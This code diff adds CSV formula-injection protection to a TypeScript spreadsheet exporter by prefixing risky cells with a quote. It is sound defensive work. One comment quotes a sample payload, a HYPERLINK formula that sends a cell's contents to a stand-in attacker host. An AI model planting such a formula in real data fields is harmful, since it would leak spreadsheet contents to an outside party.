@@ -15,10 +15,30 @@ export interface Sheet {
  * opens the file as GBK and shows mojibake.
  */
 export function writeCsv(sheet: Sheet): Buffer {
-  const text = stringify([sheet.headers, ...sheet.rows.map((r) => r.map((v) => (v == null ? '' : v)))], {
+  const text = stringify([sheet.headers.map(neutralizeCsvCell), ...sheet.rows.map((r) => r.map((v) => (v == null ? '' : neutralizeCsvCell(v))))], {
     cast: { boolean: (b) => (b ? 'true' : 'false') },
   });
   return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
+}
+
+/** What Excel and LibreOffice read as the start of a formula (and DDE) when they open a CSV; full-width forms too, which CJK Excel also accepts. */
+export const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
+/** A plain decimal number: Excel reads it as a number, never as a formula, so it is left alone. */
+const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
+
+/**
+ * CSV formula injection (OWASP "CSV Injection"): a cell such as
+ * `=HYPERLINK("http://evil.example/?x="&A1,"点我")` typed into a name field
+ * would run when the export is opened in Excel. Such a cell gets a leading
+ * single quote, which Excel shows as text. Numbers are not touched, so
+ * negative numbers stay numbers: a JS number, or text that is a plain
+ * decimal number (-3, +1.5, 1e3), cannot be a formula. The trade-off OWASP
+ * notes: a text cell that merely starts with "-" (e.g. "-备注") also gets
+ * the quote; we accept that over guessing which text is safe.
+ */
+export function neutralizeCsvCell<T extends string | number | boolean>(v: T): T | string {
+  if (typeof v !== 'string' || !FORMULA_START.test(v) || PLAIN_NUMBER.test(v)) return v;
+  return `'${v}`;
 }
 
 export async function writeXlsx(sheet: Sheet): Promise<Buffer> {
@@ -38,6 +58,7 @@ function addSheet(wb: ExcelJS.Workbook, sheet: Sheet) {
   // Text format first, so numbers typed later (学号 0012…) keep their leading zeros.
   for (const i of sheet.textColumns ?? []) ws.getColumn(i + 1).numFmt = '@';
   ws.addRow(sheet.headers).font = { bold: true };
+  // Strings go in as strings: exceljs writes a formula only for { formula } values, so "=1+1" stays text.
   for (const row of sheet.rows) ws.addRow(row.map((v) => (v == null ? null : v)));
   ws.columns.forEach((col, i) => {
     const longest = Math.max(
